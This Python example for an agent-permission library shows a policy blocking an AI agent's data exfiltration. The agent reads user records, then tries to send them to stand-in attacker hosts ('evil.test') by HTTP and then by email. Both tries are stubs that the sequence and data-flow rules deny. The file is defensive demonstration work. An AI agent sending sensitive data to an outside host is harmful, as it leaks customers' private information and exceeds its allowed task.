"""An agent that is stopped from exfiltrating data.

The policy lets the agent read customer data and call the web, but never both in
one request, in that order: a sequence rule (step 5) refuses the egress call that
would complete "read something sensitive, then send it out", and a data-flow label
(step 6) does the same for any egress tool, so pivoting from http.request to
email.send does not help. Run: python examples/exfiltration.py
"""

from __future__ import annotations

import os
import time

from d2 import (
    InMemorySource,
    PermissionDeniedError,
    configure_rbac_sync,
    d2_guard,
    get_facts,
    set_user,
    shutdown_rbac,
)

os.environ.setdefault("D2_SILENT", "1")

POLICY = {
    "metadata": {
        "name": "exfiltration-demo",
        "expires": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + 3 * 86400)),
        "tool_groups": {
            "sensitive": ["db.read_users", "secrets.get"],
            "egress": ["http.request", "email.send"],
        },
        "data_flow": {
            "labels": {"@sensitive": ["SENSITIVE"]},
            "blocks": {"SENSITIVE": ["@egress"]},
        },
    },
    "policies": [
        {
            "role": "agent",
            "permissions": ["web.search", "@sensitive", "@egress"],
            "sequence": [{"deny": ["@sensitive", "@egress"], "reason": "exfiltration"}],
        }
    ],
}


@d2_guard("web.search")
def web_search(query: str) -> str:
    return f"3 results for {query!r}"


@d2_guard("db.read_users")
def read_users() -> list[dict[str, str]]:
    return [{"name": "Ada", "email": "ada@example.com"}]


@d2_guard("http.request")
def http_request(url: str, body: str = "") -> str:
    return f"POST {url} ({len(body)} bytes)"


@d2_guard("email.send")
def send_email(to: str, body: str) -> str:
    return f"sent {len(body)} bytes to {to}"


def step(label: str, call: object) -> None:
    try:
        result = call() if callable(call) else call
        print(f"  ALLOWED  {label:<38} -> {result}")
    except PermissionDeniedError as err:
        print(f"  DENIED   {label:<38} {err.reason}: {err.trace[-1].detail}")


def main() -> None:
    configure_rbac_sync(source=InMemorySource(POLICY, name="exfiltration-demo"))
    print("Request 1: a research task, no sensitive data touched")
    set_user("agent-1", roles=["agent"])
    step("web.search('pricing')", lambda: web_search("pricing"))
    step("http.request('https://partner.test')", lambda: http_request("https://partner.test"))

    print("\nRequest 2: the agent reads users, then tries to send them out")
    set_user("agent-1", roles=["agent"])
    step("db.read_users()", read_users)
    print(f"           facts recorded in this request: {sorted(get_facts())}")
    step("http.request(..., body=users)", lambda: http_request("https://evil.test", "users"))
    step("email.send(...) (the pivot)", lambda: send_email("x@evil.test", "users"))
    step("web.search('weather')", lambda: web_search("weather"))
    shutdown_rbac()


if __name__ == "__main__":
    main()
